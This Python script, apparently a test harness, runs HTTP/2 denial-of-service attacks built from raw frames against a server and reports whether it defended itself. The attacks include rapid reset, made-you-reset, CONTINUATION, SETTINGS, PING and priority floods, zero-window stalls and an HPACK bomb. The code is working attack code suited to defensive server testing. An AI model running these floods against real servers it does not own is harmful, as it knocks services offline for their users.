#!/usr/bin/python3
"""HTTP/2 attacks on a server, written with raw frames (hyperframe, hpack: the framing
libraries of python3-h2). Each attack runs until the server ends the connection or a budget
of frames or seconds is spent, then prints one JSON line:

  {"attack": ..., "client_port": N, "outcome": "goaway" | "closed" | "survived",
   "error_code": N or null, "debug": "...", "frames_sent": N, "seconds": S, "responses": N,
   "resets_received": N, "reset_streams": [stream ids]}

"goaway": the server sent GOAWAY (error_code is its code) and closed or is closing;
"closed": the connection ended without a GOAWAY; "survived": the budget was spent and the
connection is still open, i.e. the server did not defend itself (for stalled-stream, which
stops a second after the first reset, that the connection is rightly still open). client_port is the attack
connection's own port, by which the server's log names it.

Every attack starts the connection as a real client does (the server's SETTINGS are read and
acknowledged). P is the path requested: zero-window and stalled-stream want a large response,
made-you-reset and empty-data-flood one that takes a request body.

usage: attack.py HOST PORT ATTACK [--seconds S] [--frames N] [--path P] [--tls CA_FILE]
attacks: rapid-reset, made-you-reset, continuation-flood, settings-flood, ping-flood,
         empty-data-flood, priority-flood, zero-window, hpack-bomb; and stalled-stream, where
         only one of two streams is held back (the server should reset it, not end the
         connection)

With --tls the attacks run over TLS (ALPN h2, SNI localhost, the server's certificate checked
against the authority in CA_FILE, https as the requests' :scheme): the same frames, inside TLS
records.
"""
import argparse
import json
import socket
import ssl
import struct
import sys
import threading
import time

import hpack
from hyperframe.frame import (ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame,
                              PingFrame, PriorityFrame, RstStreamFrame, SettingsFrame,
                              WindowUpdateFrame)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL = 0x8
FRAME_HEADER = 9


class TlsSocket:
    """A TLS client connection on a socket, with the TLS state in memory (ssl.MemoryBIO) rather
    than in an ssl.SSLSocket, so that one thread may read while another writes: the TLS object
    is only used under a lock, and the socket's blocking calls happen outside it (records are
    sent in the order they were made). sendall, recv and settimeout behave as the socket's."""

    def __init__(self, sock, context, server_name):
        self.sock = sock
        self.incoming = ssl.MemoryBIO()
        self.outgoing = ssl.MemoryBIO()
        self.tls = context.wrap_bio(self.incoming, self.outgoing, server_hostname=server_name)
        self.tls_lock = threading.Lock()
        self.send_lock = threading.Lock()
        while True:
            try:
                self.tls.do_handshake()
                break
            except ssl.SSLWantReadError:
                self._send_pending()
                data = self.sock.recv(65536)
                if not data:
                    raise ConnectionResetError("the server closed the connection during the TLS handshake")
                self.incoming.write(data)
        self._send_pending()
        if self.tls.selected_alpn_protocol() != "h2":
            raise SystemExit("the server chose %r by ALPN, not h2" % self.tls.selected_alpn_protocol())

    def _send_pending(self):
        data = self.outgoing.read()
        if data:
            self.sock.sendall(data)

    def sendall(self, data):
        if not data:
            return
        with self.send_lock:
            with self.tls_lock:
                self.tls.write(data)
                records = self.outgoing.read()
            self.sock.sendall(records)

    def recv(self, size):
        while True:
            with self.tls_lock:
                try:
                    return self.tls.read(size)
                except ssl.SSLWantReadError:
                    pass
                except (ssl.SSLZeroReturnError, ssl.SSLEOFError):
                    return b""
            data = self.sock.recv(65536)
            with self.tls_lock:
                if data:
                    self.incoming.write(data)
                else:
                    self.incoming.write_eof()

    def settimeout(self, timeout):
        self.sock.settimeout(timeout)


class Connection:
    """A client connection that writes raw frames and (optionally) reads the server's."""

    def __init__(self, host, port, budget, settings=None, receive_buffer=None, tls=None):
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if receive_buffer:
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.sock.connect((host, port))
        self.port = self.sock.getsockname()[1]
        self.scheme = "http"
        if tls is not None:
            self.sock = TlsSocket(self.sock, tls, "localhost")
            self.scheme = "https"
        self.encoder = hpack.Encoder()
        self.authority = "%s:%d" % (host, port)
        self.goaway = None
        self.closed = False
        self.responses = 0
        self.resets = 0
        self.reset_streams = []
        self.budget = budget
        self.frames_sent = 0
        self.frames_received = 0
        self.settings_received = False
        self.lock = threading.Lock()
        self.buffer = b""
        initial = SettingsFrame(0)
        for key, value in (settings or {}).items():
            initial.settings[key] = value
        self.sock.sendall(PREFACE + initial.serialize())

    def send(self, *frames):
        """Sends the frames that fit in the budget of frames."""
        frames = frames[:max(0, self.budget - self.frames_sent)]
        data = b"".join(f.serialize() for f in frames)
        self.sock.sendall(data)
        self.frames_sent += len(frames)

    def request_headers(self, stream_id, method="GET", path="/", end_stream=True, extra=()):
        block = self.encoder.encode([(":method", method), (":scheme", self.scheme), (":path", path),
                                     (":authority", self.authority)] + list(extra))
        frame = HeadersFrame(stream_id, block)
        frame.flags.add("END_HEADERS")
        if end_stream:
            frame.flags.add("END_STREAM")
        return frame

    def start_reader(self):
        thread = threading.Thread(target=self._read_loop, daemon=True)
        thread.start()
        return thread

    def _read_loop(self):
        while not self.closed:
            if not self.read_once(None):
                return

    def read_once(self, timeout):
        """Reads and handles what arrives; False once the connection has ended."""
        self.sock.settimeout(timeout)
        try:
            chunk = self.sock.recv(65536)
        except socket.timeout:
            return True
        except OSError:
            self.closed = True
            return False
        if not chunk:
            self.closed = True
            return False
        self.buffer += chunk
        while len(self.buffer) >= FRAME_HEADER:
            frame, length = Frame.parse_frame_header(memoryview(self.buffer[:FRAME_HEADER]))
            if len(self.buffer) < FRAME_HEADER + length:
                break
            frame.parse_body(memoryview(self.buffer[FRAME_HEADER:FRAME_HEADER + length]))
            self.buffer = self.buffer[FRAME_HEADER + length:]
            self.handle(frame)
        return True

    def handle(self, frame):
        self.frames_received += 1
        if isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
            self.settings_received = True
            ack = SettingsFrame(0)
            ack.flags.add("ACK")
            try:
                with self.lock:
                    self.sock.sendall(ack.serialize())
            except OSError:
                pass
        elif isinstance(frame, GoAwayFrame):
            self.goaway = (frame.error_code, frame.additional_data.decode("utf-8", "replace"))
        elif isinstance(frame, RstStreamFrame):
            self.resets += 1
            self.reset_streams.append(frame.stream_id)
        elif isinstance(frame, (HeadersFrame, DataFrame)) and "END_STREAM" in frame.flags:
            self.responses += 1

    def settle(self, quiet=0.2, limit=3.0):
        """Starts the connection as a real client does before it sends requests: reads and
        acknowledges the server's SETTINGS, and what follows them until the server is quiet."""
        deadline = time.monotonic() + limit
        while not self.closed and time.monotonic() < deadline:
            received = self.frames_received
            if not self.read_once(quiet):
                break
            if self.settings_received and self.frames_received == received:
                break
        self.sock.settimeout(None)

    def drain(self, seconds):
        """Reads for up to this long, or until the connection ends."""
        deadline = time.monotonic() + seconds
        while not self.closed and time.monotonic() < deadline:
            if not self.read_once(0.05):
                break

    def ended(self):
        return self.closed or self.goaway is not None


def run(attack, conn, budget_seconds, path):
    conn.settle()
    start = time.monotonic()

    def spent():
        return conn.frames_sent >= conn.budget or time.monotonic() - start > budget_seconds

    try:
        if attack == "rapid-reset":
            conn.start_reader()
            stream = 1
            while not conn.ended() and not spent():
                batch = []
                for _ in range(50):
                    batch.append(conn.request_headers(stream, path=path))
                    batch.append(RstStreamFrame(stream, CANCEL))
                    stream += 2
                with conn.lock:
                    conn.send(*batch)
        elif attack == "made-you-reset":
            # Each stream is opened, then made invalid so that the server itself must reset it,
            # in turn: a WINDOW_UPDATE of 0 on an open stream (RFC 9113 6.9), more DATA than the
            # request's content-length (8.1.1), an upper-case field name (8.2.1). Each batch waits
            # for the resets of the one before, so that the streams open never exceed the
            # server's limit (a refused stream would make the DATA after it an error).
            conn.start_reader()
            stream = 1
            while not conn.ended() and not spent():
                wait_until = time.monotonic() + 1
                while (len(conn.reset_streams) < (stream - 1) // 2 and not conn.ended()
                       and time.monotonic() < wait_until):
                    time.sleep(0.001)
                batch = []
                for i in range(48):
                    kind = i % 3
                    if kind == 0:
                        batch.append(conn.request_headers(stream, method="POST", path=path, end_stream=False))
                        batch.append(WindowUpdateFrame(stream, 0))
                    elif kind == 1:
                        batch.append(conn.request_headers(stream, method="POST", path=path, end_stream=False,
                                                          extra=[("content-length", "1")]))
                        batch.append(DataFrame(stream, b"too long", flags=["END_STREAM"]))
                    else:
                        block = conn.encoder.encode([(":method", "GET"), (":scheme", conn.scheme), (":path", path),
                                                     (":authority", conn.authority), ("X-Upper", "1")])
                        batch.append(HeadersFrame(stream, block, flags=["END_HEADERS", "END_STREAM"]))
                    stream += 2
                with conn.lock:
                    conn.send(*batch)
        elif attack == "continuation-flood":
            conn.start_reader()
            first = conn.request_headers(1, path=path)
            first.flags.discard("END_HEADERS")
            with conn.lock:
                conn.send(first)
            index = 0
            while not conn.ended() and not spent():
                batch = []
                for _ in range(100):
                    block = hpack.Encoder().encode([("x-flood-%d" % index, "a" * 100)])
                    batch.append(ContinuationFrame(1, block))
                    index += 1
                with conn.lock:
                    conn.send(*batch)
        elif attack in ("settings-flood", "ping-flood"):
            # The client does not read: every frame asks for an answer that queues up.
            while not spent():
                if attack == "settings-flood":
                    frames = [SettingsFrame(0, settings={SettingsFrame.MAX_CONCURRENT_STREAMS: 100})
                              for _ in range(100)]
                else:
                    frames = [PingFrame(0, opaque_data=struct.pack(">Q", i)) for i in range(100)]
                conn.send(*frames)
            conn.drain(2)
        elif attack == "empty-data-flood":
            conn.start_reader()
            with conn.lock:
                conn.send(conn.request_headers(1, method="POST", path=path, end_stream=False))
            while not conn.ended() and not spent():
                with conn.lock:
                    conn.send(*[DataFrame(1, b"") for _ in range(100)])
        elif attack == "priority-flood":
            conn.start_reader()
            stream = 1
            while not conn.ended() and not spent():
                batch = []
                for _ in range(100):
                    batch.append(PriorityFrame(stream, depends_on=stream + 2 if stream > 1 else 0,
                                               stream_weight=16))
                    stream += 2
                with conn.lock:
                    conn.send(*batch)
        elif attack == "zero-window":
            # Stream windows of 0 (SETTINGS at the start): the server can send no DATA, and must
            # not hold the streams, and the responses waiting in them, forever.
            conn.start_reader()
            with conn.lock:
                conn.send(*[conn.request_headers(stream, path=path) for stream in range(1, 20, 2)])
            while not conn.ended() and not spent():
                time.sleep(0.05)
        elif attack == "stalled-stream":
            # Stream windows of 0, then one stream is left stuck while another's response keeps
            # moving (2 KiB per 0.1 s): the server must reset the stuck stream only. Ends a
            # second after the first reset, with the connection still open if all went well.
            conn.start_reader()
            with conn.lock:
                conn.send(conn.request_headers(1, path=path), conn.request_headers(3, path=path))
            first_reset = None
            while not conn.ended() and not spent():
                if first_reset is None and conn.reset_streams:
                    first_reset = time.monotonic()
                if first_reset is not None and time.monotonic() - first_reset > 1:
                    break
                with conn.lock:
                    conn.send(WindowUpdateFrame(3, 2048), WindowUpdateFrame(0, 2048))
                time.sleep(0.1)
        elif attack == "hpack-bomb":
            # One large header enters the dynamic table; then each request refers to it
            # hundreds of times with one byte each.
            conn.start_reader()
            encoder = conn.encoder
            big = ("x-bomb", "b" * 4000)
            stream = 1
            with conn.lock:
                conn.send(HeadersFrame(stream, encoder.encode([(":method", "GET"), (":scheme", conn.scheme),
                                                               (":path", path), (":authority", conn.authority),
                                                               big]), flags=["END_HEADERS", "END_STREAM"]))
            while not conn.ended() and not spent():
                stream += 2
                block = encoder.encode([(":method", "GET"), (":scheme", conn.scheme), (":path", path),
                                        (":authority", conn.authority)] + [big] * 2000)
                with conn.lock:
                    conn.send(HeadersFrame(stream, block, flags=["END_HEADERS", "END_STREAM"]))
        else:
            print("unknown attack " + attack, file=sys.stderr)
            sys.exit(2)
    except OSError:
        conn.closed = True
    conn.drain(3)
    if conn.goaway is not None:
        outcome = "goaway"
    elif conn.closed:
        outcome = "closed"
    else:
        outcome = "survived"
    return {
        "attack": attack,
        "client_port": conn.port,
        "outcome": outcome,
        "error_code": conn.goaway[0] if conn.goaway else None,
        "debug": conn.goaway[1] if conn.goaway else "",
        "frames_sent": conn.frames_sent,
        "seconds": round(time.monotonic() - start, 3),
        "responses": conn.responses,
        "resets_received": conn.resets,
        "reset_streams": conn.reset_streams,
    }


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("attack")
    parser.add_argument("--seconds", type=float, default=20)
    parser.add_argument("--frames", type=int, default=1_000_000)
    parser.add_argument("--path", default="/")
    parser.add_argument("--tls", metavar="CA_FILE", help="speak TLS, trusting the authority in CA_FILE")
    args = parser.parse_args()
    tls = None
    if args.tls:
        tls = ssl.create_default_context(cafile=args.tls)
        tls.set_alpn_protocols(["h2"])
    settings = None
    receive_buffer = None
    if args.attack in ("zero-window", "stalled-stream"):
        settings = {SettingsFrame.INITIAL_WINDOW_SIZE: 0}
    if args.attack in ("settings-flood", "ping-flood"):
        receive_buffer = 4096
    conn = Connection(args.host, args.port, args.frames, settings, receive_buffer, tls)
    print(json.dumps(run(args.attack, conn, args.seconds, args.path)))


if __name__ == "__main__":
    main()
